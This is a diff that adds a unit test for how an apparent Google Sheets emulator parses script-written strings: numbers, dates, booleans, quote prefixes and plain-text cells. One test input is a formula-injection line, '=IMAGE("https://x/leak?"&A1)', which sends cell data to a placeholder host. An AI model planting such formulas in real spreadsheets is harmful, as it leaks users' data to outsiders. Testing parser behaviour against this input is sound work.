@@ -208,6 +208,27 @@ describe('spreadsheet, UI, HTML, utilities', () => {
     expect(r.run('selectionInfo', [], { kind: 'custom', cell: 'Data!A3' }).values).toEqual([['esa']]);
   });
 
+  test('strings written by a script are parsed as Sheets parses typed input, unless quoted or in a plain-text cell', () => {
+    const r = rt({ timeZone: 'America/New_York' });
+    const sheet = r.spreadsheet.addSheet('Data');
+    const typed = ['=IMAGE("https://x/leak?"&A1)', '0012345', '+15551234567', '12%', 'TRUE', 'false', '2026-01-05', '1/5/2026 10:30', '@x', "'x", "''x", '17841405793187218', '1,234.5', '-3', 'nasa', '=', ''];
+    r.call('writeCells', 'Data!A1:Q1', [typed]);
+    const local = (y: number, mo: number, d: number, h = 0, mi = 0) => new Date(Date.UTC(y, mo - 1, d, h + 5, mi)); // EST is UTC-5
+    expect(sheet.getValues('A1:Q1')[0]).toEqual(['', 12345, 15551234567, 0.12, true, false, local(2026, 1, 5), local(2026, 1, 5, 10, 30), '@x', 'x', "'x", 17841405793187218, 1234.5, -3, 'nasa', '=', '']);
+    expect(sheet.formulas.get('1,1')).toBe('=IMAGE("https://x/leak?"&A1)');
+    // The quote prefix keeps every one as the string after it; appendRow parses the same way.
+    r.call('writeCells', 'Data!A2:Q2', [typed.map((t) => (t === '' ? '' : `'${t}`))]);
+    expect(sheet.getValues('A2:Q2')[0]).toEqual(typed);
+    r.call('appendCells', 'Data', ['0012345', "'0012345", 7, true]);
+    expect(sheet.getValues('A3:D3')[0]).toEqual([12345, '0012345', 7, true]);
+    expect(sheet.formulas.size).toBe(1);
+    // A plain-text cell takes the string as it is, apostrophe included (README: our model); numbers stay numbers.
+    expect(r.call('formatCells', 'Data!A4:C4', '@')).toEqual([['@', '@', '@']]);
+    r.call('writeCells', 'Data!A4:C4', [['=1+1', "'x", 5]]);
+    expect(sheet.getValues('A4:C4')[0]).toEqual(['=1+1', "'x", 5]);
+    expect(sheet.formulas.size).toBe(1);
+  });
+
   test('menus, sidebar, templates, utilities', () => {
     const r = rt({ addonName: 'IG Data' });
     expect(r.trigger('onOpen', { authMode: 'NONE' })).toBe('NONE');
